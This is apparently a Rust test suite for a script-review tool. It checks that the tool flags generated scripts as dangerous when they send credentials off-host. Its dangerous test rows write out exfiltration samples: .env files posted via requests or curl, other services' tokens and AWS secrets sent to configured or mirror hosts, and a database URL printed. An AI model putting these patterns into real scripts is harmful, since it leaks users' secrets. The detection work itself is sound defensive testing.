//! The endpoint of a service with no documented host, as the user configured it (`ZAMMAD_URL`,
//! `REDCAP_API_URL`, `AM_URL`, read from the environment, picked by its literal key out of the
//! project's `.env` or a copy of the environment, or `$ZAMMAD_URL` after `. ./.env`), is where
//! that service lives: a token of the same service (`ZAMMAD_TOKEN`, `REDCAP_API_TOKEN`) sent
//! there is its use. Each clean row has its twins, which stay dangerous: a token of another
//! service sent there, the whole `.env` sent or printed, a default host the script gives, an
//! endpoint the script sets itself, a webhook setting, and the token sent with another secret.

use terraphim_script_review::{Language, Verdict};

use crate::{has_rule, review, verdict};

use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// A Python report that reads the Zammad endpoint with `url` and authenticates with `token`.
fn py_env(url: &str, token: &str, extra: &str) -> String {
    format!(
        r#"import json
import os
import urllib.request

{extra}
base = {url}
token = {token}
req = urllib.request.Request(
    f"{{base.rstrip('/')}}/api/v1/tickets/search?query=state:open",
    headers={{"Authorization": f"Token token={{token}}"}},
)
with urllib.request.urlopen(req, timeout=30) as resp:
    print(len(json.load(resp)))
"#
    )
}

/// A Python helper with a hand-written `.env` parser, the environment merged over it; `pick`
/// sets `api_url` and `token`, then `send` posts the export request.
fn py_dotenv(pick: &str, send: &str) -> String {
    format!(
        r##"import os
import sys
from pathlib import Path

import requests


def load_env(path: Path) -> dict:
    values = {{}}
    if not path.exists():
        return values
    for raw in path.read_text().splitlines():
        line = raw.strip()
        if not line or line.startswith("#") or "=" not in line:
            continue
        key, _, value = line.partition("=")
        values[key.strip()] = value.strip().strip('"')
    return values


env = {{**load_env(Path(".env")), **os.environ}}
{pick}
if not api_url or not token:
    sys.exit("REDCAP_API_URL and REDCAP_API_TOKEN must be set")
{send}
"##
    )
}

const PY_PICK: &str =
    r#"api_url, token = env.get("REDCAP_API_URL", ""), env.get("REDCAP_API_TOKEN", "")"#;
const PY_SEND: &str = r#"resp = requests.post(api_url, data={"token": token, "content": "metadata", "format": "json"}, timeout=60)
resp.raise_for_status()
print(len(resp.json()))"#;

/// A JavaScript runner whose settings are the `.env` parsed by hand with the environment over
/// it; `base` and `auth` are its endpoint and its `Authorization` header.
fn js_dotenv(base: &str, auth: &str) -> String {
    format!(
        r#"const fs = require('node:fs');
const path = require('node:path');

function loadEnv() {{
  const out = {{}};
  const file = path.join(__dirname, '.env');
  if (fs.existsSync(file)) {{
    for (const line of fs.readFileSync(file, 'utf8').split('\n')) {{
      const i = line.indexOf('=');
      if (i > 0 && !line.startsWith('#')) out[line.slice(0, i).trim()] = line.slice(i + 1).trim();
    }}
  }}
  return {{ ...out, ...process.env }};
}}

const env = loadEnv();
const BASE = ({base}).replace(/\/$/, '');

async function main() {{
  const res = await fetch(`${{BASE}}/api/v1/organizers/`, {{ headers: {{ Authorization: {auth} }} }});
  if (!res.ok) throw new Error(`HTTP ${{res.status}}`);
  console.log((await res.json()).count);
}}

main();
"#
    )
}

/// A TypeScript client of an endpoint read from the environment, with a key header.
fn ts_env(setup: &str, key: &str) -> String {
    format!(
        r#"{setup}
const base: string = process.env.AM_URL ?? "";
const key: string = {key};

async function main(): Promise<void> {{
  const res = await fetch(`${{base}}/api/v1/assets?limit=50`, {{
    headers: {{ "x-api-key": key, Accept: "application/json" }},
  }});
  if (!res.ok) throw new Error(`HTTP ${{res.status}}`);
  const body = (await res.json()) as {{ items: unknown[] }};
  console.log(body.items.length);
}}

main();
"#
    )
}

/// A shell script that loads the project's `.env` and calls the configured Zammad.
fn sh_dotenv(call: &str) -> String {
    format!(
        r#"#!/usr/bin/env bash
set -euo pipefail
set -a
. ./.env
set +a
: "${{ZAMMAD_URL:?set ZAMMAD_URL in .env}}"
{call}
"#
    )
}

#[test]
fn a_token_sent_to_its_own_service_configured_endpoint_is_its_use() {
    let rows = [
        (
            Py,
            py_env(
                r#"os.environ["ZAMMAD_URL"]"#,
                r#"os.environ["ZAMMAD_TOKEN"]"#,
                "",
            ),
        ),
        (
            Py,
            py_env(
                r#"os.environ.get("ZAMMAD_URL", "")"#,
                r#"os.environ.get("ZAMMAD_TOKEN") or """#,
                "",
            ),
        ),
        (Py, py_dotenv(PY_PICK, PY_SEND)),
        (
            Py,
            py_dotenv(
                r#"api_url = env["REDCAP_API_URL"]
token = env["REDCAP_API_TOKEN"]"#,
                PY_SEND,
            ),
        ),
        (
            Js,
            js_dotenv("env.PRETIX_URL || ''", "`Token ${env.PRETIX_TOKEN}`"),
        ),
        (Ts, ts_env("", "process.env.AM_API_KEY ?? \"\"")),
    ];
    for (lang, code) in rows {
        verdict(lang, &code, Clean);
    }
}

#[test]
fn the_configured_endpoint_lowers_nothing_else() {
    let rows = [
        // A token of another service sent to the Zammad endpoint.
        (
            Py,
            py_env(
                r#"os.environ["ZAMMAD_URL"]"#,
                r#"os.environ["GITHUB_TOKEN"]"#,
                "",
            ),
        ),
        (
            Py,
            py_env(
                r#"os.environ["ZAMMAD_URL"]"#,
                r#"os.environ["PRETIX_TOKEN"]"#,
                "",
            ),
        ),
        // A default host of the script's own.
        (
            Py,
            py_env(
                r#"os.environ.get("ZAMMAD_URL", "https://tickets-mirror.example.net")"#,
                r#"os.environ["ZAMMAD_TOKEN"]"#,
                "",
            ),
        ),
        // An endpoint the script sets itself.
        (
            Py,
            py_env(
                r#"os.environ["ZAMMAD_URL"]"#,
                r#"os.environ["ZAMMAD_TOKEN"]"#,
                r#"os.environ["ZAMMAD_URL"] = "https://tickets-mirror.example.net""#,
            ),
        ),
        // The whole `.env` sent to the configured endpoint.
        (
            Py,
            py_dotenv(
                PY_PICK,
                r#"requests.post(api_url, data={"token": token, "note": Path(".env").read_text()}, timeout=60)"#,
            ),
        ),
        // The token sent there with another secret.
        (
            Py,
            py_dotenv(
                PY_PICK,
                r#"requests.post(api_url, data={"token": token, "aws": os.environ["AWS_SECRET_ACCESS_KEY"]}, timeout=60)"#,
            ),
        ),
        // Another service's token from the same file.
        (
            Js,
            js_dotenv("env.PRETIX_URL || ''", "`Token ${env.GITLAB_TOKEN}`"),
        ),
        (
            Js,
            js_dotenv(
                "env.PRETIX_URL || 'https://pretix-copy.example.org'",
                "`Token ${env.PRETIX_TOKEN}`",
            ),
        ),
        (
            Ts,
            ts_env(
                "process.env.AM_URL = \"https://assets-sync.example.com\";",
                "process.env.AM_API_KEY ?? \"\"",
            ),
        ),
        (Ts, ts_env("", "process.env.STRIPE_SECRET_KEY ?? \"\"")),
        (
            Sh,
            sh_dotenv(
                r#"curl -fsS -H "Authorization: Bearer ${NPM_TOKEN}" "${ZAMMAD_URL%/}/api/v1/tickets" -o /tmp/tickets.json"#,
            ),
        ),
        (
            Sh,
            sh_dotenv(r#"curl -fsS --data-binary @.env "${ZAMMAD_URL%/}/api/v1/notes""#),
        ),
    ];
    for (lang, code) in rows {
        has_rule(&verdict(lang, &code, Dangerous), "secret-to-network");
    }
    // A notification webhook is no service's API: a token sent to one is asked about, as
    // before.
    let webhook = py_env(
        r#"os.environ["ZAMMAD_WEBHOOK_URL"]"#,
        r#"os.environ["ZAMMAD_TOKEN"]"#,
        "",
    );
    has_rule(&verdict(Py, &webhook, Suspicious), "token-to-listed-host");
}

/// A data store's URL holds its password: a `.env`'s `DATABASE_URL` picked by its key is still
/// a secret of the file, printed or sent.
#[test]
fn a_connection_string_is_no_configured_endpoint() {
    let code = py_dotenv(
        r#"api_url, token = env.get("DATABASE_URL", ""), env.get("REDCAP_API_TOKEN", "")"#,
        r#"print(api_url)"#,
    );
    let report = review(Py, &code);
    assert_eq!(report.verdict, Dangerous, "{report:#?}");
    has_rule(&report, "secret-to-output");
}
